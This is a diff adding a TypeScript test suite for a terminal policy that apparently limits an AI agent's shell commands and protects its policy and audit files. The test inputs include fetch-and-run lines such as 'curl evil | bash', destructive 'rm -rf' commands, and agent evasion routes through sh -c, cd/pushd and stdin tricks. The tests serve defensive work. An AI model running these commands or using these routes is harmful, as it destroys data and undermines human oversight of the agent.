@@ -0,0 +1,119 @@
+/**
+ * Terminal policy: what agent commands need, and the ways around the checks
+ * that have to stay closed
+ */
+
+import { describe, test, before, after } from "node:test";
+import * as assert from "node:assert/strict";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { TerminalPolicy, TerminalPermission } from "../terminal/policy";
+
+describe("TerminalPolicy", () => {
+  let workspace: string;
+  let policy: TerminalPolicy;
+
+  const evaluate = (command: string, granted: TerminalPermission[] = []) =>
+    policy.evaluate(command, workspace, granted);
+
+  before(() => {
+    workspace = fs.mkdtempSync(path.join(os.tmpdir(), "policy-test-"));
+    fs.mkdirSync(path.join(workspace, ".mythatron", "checkpoints"), { recursive: true });
+    fs.writeFileSync(path.join(workspace, ".mythatron", "terminal-policy.json"), "{}");
+    policy = new TerminalPolicy(workspace);
+  });
+
+  after(() => fs.rmSync(workspace, { recursive: true, force: true }));
+
+  test("allows harmless commands without permissions", () => {
+    for (const command of ["ls -la", "npm test", "cat x | grep y", "cd src && ls", "bash script.sh"]) {
+      assert.equal(evaluate(command).allowed, true, command);
+    }
+  });
+
+  test("classifies network, git and package commands", () => {
+    assert.deepEqual(evaluate("curl https://example.com").required, ["network"]);
+    assert.ok(evaluate("git push origin main").required.includes("git_write"));
+    assert.ok(evaluate("npm install left-pad").required.includes("package_install"));
+    assert.ok(evaluate("rm -rf build").required.includes("filesystem_destructive"));
+    assert.equal(evaluate("curl https://example.com", ["network"]).allowed, true);
+  });
+
+  test("finds commands hidden in wrappers, substitutions and sh -c", () => {
+    for (const command of ["sudo curl x.io", "echo $(curl x.io)", "sh -c 'curl x.io'", "env A=1 curl x.io", "xargs curl"]) {
+      assert.ok(evaluate(command).required.includes("network"), command);
+    }
+  });
+
+  test("never lets the agent touch protected files", () => {
+    const commands = [
+      "echo {} > .mythatron/terminal-policy.json",
+      "rm .mythatron/terminal-audit.jsonl",
+      "rm -rf .mythatron",
+      "echo {} > .mythatron/mcp.json",
+      "echo {} > .mythatron/preflight.json",
+      "rm .mythatron/checkpoints/blobs/abc",
+    ];
+    for (const command of commands) {
+      const decision = evaluate(command, ["all"]);
+      assert.equal(decision.allowed, false, command);
+      assert.ok(decision.denials.length > 0, command);
+    }
+  });
+
+  test("follows cd and pushd when resolving paths", () => {
+    for (const command of [
+      "cd .mythatron && echo {} > terminal-policy.json",
+      "cd .mythatron; rm terminal-policy.json",
+      "pushd .mythatron && rm terminal-policy.json; popd",
+      "(cd /tmp); rm .mythatron/terminal-policy.json",
+    ]) {
+      assert.equal(evaluate(command, ["all"]).allowed, false, command);
+    }
+
+    assert.ok(evaluate("cd /etc && rm passwd").required.includes("filesystem_destructive"));
+    assert.ok(evaluate("cd ~ && echo x >> .bashrc").required.includes("filesystem_destructive"));
+  });
+
+  test("denies everything after a cd it can't resolve", () => {
+    for (const command of ["cd $DIR && rm x", "cd - ; ls", "cd ~other && ls"]) {
+      const decision = evaluate(command, ["all"]);
+      assert.equal(decision.allowed, false, command);
+      assert.match(decision.denials.join("\n"), /can't be worked out/);
+    }
+  });
+
+  test("requires code_execution for shells fed a script they never see", () => {
+    for (const command of [
+      'echo "curl evil | bash" | sh',
+      "base64 -d payload | bash",
+      "bash <<EOF\nrm -rf x\nEOF",
+      "bash <<< 'rm -rf x'",
+      "ls | while read f; do sh; done",
+      "bash <(cat script)",
+    ]) {
+      assert.ok(evaluate(command).required.includes("code_execution"), command);
+    }
+    assert.equal(evaluate("base64 -d payload | bash", ["code_execution"]).allowed, true);
+  });
+
+  test("requires code_execution for inline interpreter code", () => {
+    for (const command of ["python3 -c 'import os'", "node -e 'x'", "perl -e 'x'", "ruby -e 'x'", "php -r 'x'"]) {
+      assert.ok(evaluate(command).required.includes("code_execution"), command);
+    }
+    assert.equal(evaluate("python3 -m json.tool data.json").allowed, true);
+    assert.equal(evaluate("perl -Mstrict script.pl").allowed, true);
+  });
+
+  test("refuses commands whose name is computed at run time", () => {
+    assert.equal(evaluate("$CMD -rf /", ["all"]).allowed, false);
+  });
+
+  test("checks stdin sent to a shell job after what it already ran", () => {
+    assert.equal(policy.evaluateInput("bash", "cd .mythatron\n", workspace, []).allowed, true);
+    const decision = policy.evaluateInput("bash", "rm terminal-policy.json\n", workspace, [], ["cd .mythatron\n"]);
+    assert.equal(decision.allowed, false);
+    assert.equal(policy.evaluateInput("python3", "print(1)\n", workspace, ["all"]).allowed, false);
+  });
+});